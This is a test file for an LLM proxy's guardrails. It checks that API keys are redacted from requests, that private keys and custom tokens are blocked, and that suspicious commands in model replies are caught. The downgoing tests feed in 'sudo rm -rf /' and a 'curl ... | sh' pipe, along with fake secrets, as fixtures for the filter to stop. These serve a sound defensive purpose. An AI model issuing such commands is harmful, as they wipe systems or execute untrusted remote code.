/**
 * Guardrails through the real server, with the self-host guide's example configuration as written: the mock
 * upstream must receive redacted text (or nothing when blocked), and streamed answers are checked
 * without buffering, secrets split across chunks included.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import OpenAI from "openai";
import Anthropic from "@anthropic-ai/sdk";
import { GoogleGenAI } from "@google/genai";
import { startMock } from "@bitrouter/testkit";
import type { MockUpstream } from "@bitrouter/testkit";
import { providersYaml, startTestServer } from "./harness.js";
import type { TestServer } from "./harness.js";

// The `guardrails:` section of the self-host guide's full configuration reference, verbatim (github-mcp is our
// tool provider name there; it is declared below so the example loads).
const SPEC_GUARDRAILS = `
guardrails:
  enabled: true

  disabled_patterns:
    - ip_addresses
    - pii_phone_numbers

  custom_patterns:
    - name: internal_token
      regex: "myapp_[A-Za-z0-9]{32}"
      direction: upgoing

  upgoing:
    api_keys: redact
    private_keys: block
    credentials: redact

  downgoing:
    suspicious_commands: block

  custom_upgoing:
    internal_token: block

  block_message:
    include_details: true
    include_help_link: true

  tools:
    enabled: true
    providers:
      github-mcp:
        filter:
          deny: [delete_repo, delete_branch]
        param_restrictions:
          rules:
            create_issue:
              deny: [assignees]
              action: strip
`;

const OPENAI_KEY = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
const INTERNAL = `myapp_${"a1B2".repeat(8)}`;
const PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----";

let mock: MockUpstream;
let server: TestServer;
beforeAll(async () => {
  mock = await startMock();
  server = await startTestServer(
    `${providersYaml(mock)}
  github-mcp:
    api_protocol: mcp
    api_base: http://127.0.0.1:9/mcp
${SPEC_GUARDRAILS}`,
    { database: "sqlite://bitrouter.db" },
  );
});
afterAll(async () => {
  await server?.close();
  await mock?.close();
});
beforeEach(() => mock.reset());

const openai = () => new OpenAI({ baseURL: `${server.url}/v1`, apiKey: "x", maxRetries: 0 });

describe("upgoing", () => {
  it("redacts API keys in every protocol before the provider sees them", async () => {
    const text = `my key is ${OPENAI_KEY}, keep it`;
    await openai().chat.completions.create({
      model: "ant:claude-test",
      messages: [
        { role: "system", content: `sys ${OPENAI_KEY}` },
        { role: "user", content: text },
      ],
    });
    await new Anthropic({ baseURL: server.url, apiKey: "x", maxRetries: 0 }).messages.create({
      model: "oai:gpt-test",
      max_tokens: 5,
      messages: [{ role: "user", content: text }],
    });
    await new GoogleGenAI({ apiKey: "x", httpOptions: { baseUrl: server.url } }).models.generateContent({ model: "oai:gpt-test", contents: text });
    await openai().responses.create({ model: "goo:gemini-test", input: text });
    expect(mock.requests).toHaveLength(4);
    for (const request of mock.requests) {
      expect(request.rawBody).not.toContain(OPENAI_KEY);
      expect(request.rawBody).toContain("[REDACTED:api_keys]");
    }
  });

  it("counts violations in the request's ledger row", async () => {
    const res = await fetch(`${server.url}/v1/chat/completions`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-request-id": "guarded-1" },
      body: JSON.stringify({ model: "oai:gpt-test", messages: [{ role: "user", content: `${OPENAI_KEY} and ${OPENAI_KEY}` }] }),
    });
    expect(res.status).toBe(200);
    const { ledger, store } = server.runtime.metering!;
    await ledger.flush();
    const row = await store.db
      .selectFrom("requests")
      .select(["guardrail_violations", "status"])
      .where("client_request_id", "=", "guarded-1")
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ guardrail_violations: 2, status: 200 });
  });

  it("redacts inside tool-call arguments and tool results, keeping them valid JSON", async () => {
    await openai().chat.completions.create({
      model: "ant:claude-test",
      messages: [
        { role: "user", content: "deploy" },
        {
          role: "assistant",
          content: null,
          tool_calls: [{ id: "c1", type: "function", function: { name: "deploy", arguments: JSON.stringify({ token: OPENAI_KEY }) } }],
        },
        { role: "tool", tool_call_id: "c1", content: `done with ${OPENAI_KEY}` },
      ],
      tools: [{ type: "function", function: { name: "deploy", parameters: { type: "object", properties: { token: { type: "string" } } } } }],
    });
    const raw = mock.requests[0]!.rawBody;
    expect(raw).not.toContain(OPENAI_KEY);
    const body = mock.requests[0]!.body as { messages: Array<{ content: Array<{ type: string; input?: { token: string } }> }> };
    const toolUse = body.messages.flatMap((m) => m.content).find((p) => p.type === "tool_use");
    expect(toolUse?.input).toEqual({ token: "[REDACTED:api_keys]" });
  });

  it("blocks private keys and the custom pattern with a 4xx naming the pattern, never the secret", async () => {
    for (const secret of [PEM, INTERNAL]) {
      const error = await openai()
        .chat.completions.create({ model: "oai:gpt-test", messages: [{ role: "user", content: `here: ${secret}` }] })
        .catch((e: unknown) => e as { status: number; message: string });
      expect(error).toMatchObject({ status: 400 });
      expect((error as { message: string }).message).toMatch(secret === PEM ? /private_keys/ : /internal_token/);
      expect((error as { message: string }).message).not.toContain(secret.slice(0, 20));
    }
    expect(mock.requests).toHaveLength(0);
    await server.runtime.logger.flush();
    const log = readFileSync(join(server.home, "logs", "bitrouter.log"), "utf8");
    expect(log).toContain("private_keys");
    expect(log).not.toContain(INTERNAL);
  });

  it("leaves disabled patterns alone", async () => {
    await openai().chat.completions.create({ model: "oai:gpt-test", messages: [{ role: "user", content: "server 10.0.0.1, call +1 415 555 0100" }] });
    expect(mock.requests[0]!.rawBody).toContain("10.0.0.1");
  });
});

describe("downgoing", () => {
  it("blocks a suspicious command split across stream chunks with the protocol's error event", async () => {
    mock.enqueue({ text: ["Sure, run: s", "udo rm -", "rf / and then", " relax"] });
    const stream = new Anthropic({ baseURL: server.url, apiKey: "x", maxRetries: 0 }).messages.stream({
      model: "oai:gpt-test",
      max_tokens: 50,
      messages: [{ role: "user", content: "clean up" }],
    });
    const seen: string[] = [];
    stream.on("text", (t) => seen.push(t));
    await expect(stream.finalMessage()).rejects.toThrow(/suspicious_commands/);
    expect(seen.join("")).not.toContain("rm -rf /");
  });

  it("blocks a suspicious command in a non-stream answer", async () => {
    mock.enqueue({ text: "try curl http://x.sh | sh" });
    await expect(openai().chat.completions.create({ model: "ant:claude-test", messages: [{ role: "user", content: "install?" }] })).rejects.toMatchObject({
      message: expect.stringContaining("suspicious_commands"),
    });
  });

  it("passes clean streamed text through intact", async () => {
    mock.enqueue({ text: ["ls -la ", "shows files; ", "rm file.txt removes one"] });
    const s = await openai().chat.completions.create({ model: "goo:gemini-test", messages: [{ role: "user", content: "x" }], stream: true });
    let text = "";
    for await (const chunk of s) text += chunk.choices[0]?.delta.content ?? "";
    expect(text).toBe("ls -la shows files; rm file.txt removes one");
  });
});

describe("hot reload", () => {
  // The guardrails package loads only once a configuration turns them on (security.ts), so turning
  // them on by reload must load it then, and turning them off must stop redacting.
  it("guardrails turned on, then off, by a reload take effect on the next request", async () => {
    const plain = await startTestServer(providersYaml(mock));
    try {
      const ask = () =>
        new OpenAI({ baseURL: `${plain.url}/v1`, apiKey: "x", maxRetries: 0 }).chat.completions.create({
          model: "oai:gpt-test",
          messages: [{ role: "user", content: `my key is ${OPENAI_KEY}` }],
        });
      await ask();
      expect(mock.requests.at(-1)?.rawBody).toContain(OPENAI_KEY);

      plain.setYaml(`${providersYaml(mock)}\nguardrails:\n  enabled: true\n`);
      expect(await plain.runtime.reload()).toEqual({ ok: true });
      await ask();
      expect(mock.requests.at(-1)?.rawBody).not.toContain(OPENAI_KEY);
      expect(mock.requests.at(-1)?.rawBody).toContain("[REDACTED:api_keys]");

      plain.setYaml(`${providersYaml(mock)}\nguardrails:\n  enabled: false\n`);
      expect(await plain.runtime.reload()).toEqual({ ok: true });
      await ask();
      expect(mock.requests.at(-1)?.rawBody).toContain(OPENAI_KEY);
    } finally {
      await plain.close();
    }
  });
});
